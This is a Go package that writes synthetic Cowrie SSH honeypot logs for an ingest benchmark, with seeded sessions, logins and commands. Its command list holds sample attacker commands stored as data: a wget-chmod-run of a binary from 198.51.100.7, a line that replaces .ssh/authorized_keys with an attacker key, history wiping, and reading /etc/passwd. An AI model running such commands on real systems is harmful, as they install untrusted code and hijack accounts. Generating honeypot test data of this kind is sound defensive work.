// Package cowriegen writes synthetic Cowrie JSON logs of any length, for the ingest benchmark
// (make cowrie-bench) and the restart test: realistic lines (the attributes of Cowrie's
// docs/OUTPUT.rst), sessions interleaved as on a busy sensor, log time always advancing.
//
// The mix, per session, drawn from a seeded generator so that a length and a seed always give
// the same log: connect, client.version and client.kex; 1 to 4 logins (the last succeeds in
// 35% of sessions); a successful session has client.size, 1 to 12 commands (one in twenty a
// command.failed after its input), a file_download in 15% of them and log.closed; 4% of the
// sessions are relays with 20 to 200 direct-tcpip request and data pairs; every session ends
// with session.closed, except 1% that never close (left to the idle timeout); one line in 500
// is an event id the ingest does not know. On the 1,000,000-line log of make cowrie-bench
// (seed 1) that comes to 19.9% logins, 18.4% commands, 24.0% direct-tcpip, 8.0% each connect,
// client.version and client.kex, 7.9% session.closed and 5.8% the other lines (Stats counts
// it exactly; cowriebench gen prints it).
package cowriegen

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"time"
)

// Stats counts the lines written by event id.
type Stats map[string]int

// Write writes n lines of Cowrie log to w from seed, with up to concurrent sessions open at
// once, starting at start.
func Write(w io.Writer, n int, seed uint64, start time.Time) (Stats, error) {
	g := &gen{rng: rand.New(rand.NewPCG(seed, 0x636f77726965)), t: start, stats: Stats{}}
	bw := bufio.NewWriterSize(w, 1<<20)
	const concurrent = 64
	active := make([][]map[string]any, 0, concurrent)
	for written := 0; written < n; {
		for len(active) < concurrent {
			active = append(active, g.session())
		}
		i := g.rng.IntN(len(active))
		o := active[i][0]
		active[i] = active[i][1:]
		if len(active[i]) == 0 {
			active[i] = active[len(active)-1]
			active = active[:len(active)-1]
		}
		if o == nil {
			continue // a session that never closes
		}
		g.t = g.t.Add(time.Duration(g.rng.IntN(180)) * time.Millisecond)
		o["timestamp"] = g.t.UTC().Format("2006-01-02T15:04:05.000000Z")
		b, err := json.Marshal(o)
		if err != nil {
			return nil, err
		}
		bw.Write(b)
		bw.WriteByte('\n')
		g.stats[o["eventid"].(string)]++
		written++
	}
	return g.stats, bw.Flush()
}

type gen struct {
	rng   *rand.Rand
	t     time.Time
	n     int
	stats Stats
}

var (
	users   = []string{"root", "admin", "ubuntu", "test", "user", "oracle", "pi", "git", "postgres", "guest", "support", "ftpuser"}
	pwds    = []string{"123456", "admin", "root", "password", "12345678", "xc3511", "vizxv", "1234", "qwerty", "raspberry", "toor", "111111", "admin123", "P@ssw0rd"}
	clients = []string{"SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_8.9p1", "SSH-2.0-paramiko_3.4.0", "SSH-2.0-PuTTY_Release_0.80"}
	cmds    = []string{"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "nproc", "cd /tmp; wget http://198.51.100.7/x86_64 -O .x; chmod +x .x; ./.x",
		"echo -e '\\x6b\\x61\\x6d\\x69'", "free -m", "w", "crontab -l", "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2E mdrfckr\">>.ssh/authorized_keys",
		"ls -la /var/tmp", "ps aux | grep -v grep | grep xmrig", "history -c", "/bin/busybox ECCHI", "cat /etc/passwd", "lscpu | grep Model", "whoami", "top"}
)

// session returns the lines of one new session, in order (a nil entry: it never closes).
func (g *gen) session() []map[string]any {
	g.n++
	id := fmt.Sprintf("%012x", uint64(g.n)*0x9E3779B97F4A7C15>>16)
	ip := fmt.Sprintf("%d.%d.%d.%d", 1+g.rng.IntN(223), g.rng.IntN(256), g.rng.IntN(256), 1+g.rng.IntN(254))
	base := func(eid, msg string) map[string]any {
		return map[string]any{"eventid": eid, "message": msg, "sensor": "cowrie-bench", "src_ip": ip, "session": id}
	}
	var out []map[string]any
	add := func(m map[string]any) { out = append(out, m) }
	c := base("cowrie.session.connect", "New connection: "+ip)
	c["src_port"], c["dst_ip"], c["dst_port"], c["protocol"] = 30000+g.rng.IntN(30000), "10.0.0.5", 22, "ssh"
	add(c)
	v := base("cowrie.client.version", "Remote SSH version")
	v["version"] = clients[g.rng.IntN(len(clients))]
	add(v)
	k := base("cowrie.client.kex", "SSH client hassh fingerprint")
	k["hassh"] = fmt.Sprintf("%032x", g.rng.Uint64()%8)
	k["kexAlgs"] = []string{"curve25519-sha256", "ecdh-sha2-nistp256"}
	add(k)
	logins := 1 + g.rng.IntN(4)
	ok := g.rng.IntN(100) < 35
	for i := 0; i < logins; i++ {
		eid := "cowrie.login.failed"
		if ok && i == logins-1 {
			eid = "cowrie.login.success"
		}
		l := base(eid, "login attempt")
		l["username"], l["password"] = users[g.rng.IntN(len(users))], pwds[g.rng.IntN(len(pwds))]
		add(l)
	}
	if ok && g.rng.IntN(100) < 4 {
		for i, n := 0, 20+g.rng.IntN(180); i < n; i++ {
			r := base("cowrie.direct-tcpip.request", "direct-tcp connection request")
			r["dst_ip"], r["dst_port"] = fmt.Sprintf("142.250.%d.%d", g.rng.IntN(256), g.rng.IntN(256)), []int{25, 443, 80, 587}[g.rng.IntN(4)]
			add(r)
			d := base("cowrie.direct-tcpip.data", "direct-tcp forward")
			d["dst_ip"], d["dst_port"], d["data"] = r["dst_ip"], r["dst_port"], "EHLO example.com\r\n"
			add(d)
		}
	} else if ok {
		s := base("cowrie.client.size", "Terminal Size: 80 24")
		s["width"], s["height"] = 80, 24
		add(s)
		for i, n := 0, 1+g.rng.IntN(12); i < n; i++ {
			in := cmds[g.rng.IntN(len(cmds))]
			ci := base("cowrie.command.input", "CMD: "+in)
			ci["input"] = in
			add(ci)
			if g.rng.IntN(20) == 0 {
				cf := base("cowrie.command.failed", "Command not found: "+in)
				cf["input"] = in
				add(cf)
			}
		}
		if g.rng.IntN(100) < 15 {
			d := base("cowrie.session.file_download", "Downloaded URL")
			d["url"], d["shasum"] = "http://198.51.100.7/x86_64", fmt.Sprintf("%064x", g.rng.Uint64())
			d["outfile"], d["destfile"] = "var/lib/cowrie/downloads/x", ".x"
			add(d)
		}
		lc := base("cowrie.log.closed", "Closing TTY Log")
		lc["ttylog"], lc["size"], lc["duration_ms"] = "var/lib/cowrie/tty/"+id, 1024, 5000
		add(lc)
	}
	if g.rng.IntN(500) == 0 {
		add(base("cowrie.virustotal.scanurl", "VT scan"))
	}
	if g.rng.IntN(100) == 0 {
		return append(out, nil)
	}
	cl := base("cowrie.session.closed", "Connection lost")
	cl["duration_ms"] = 1000 + g.rng.IntN(60000)
	return append(out, cl)
}
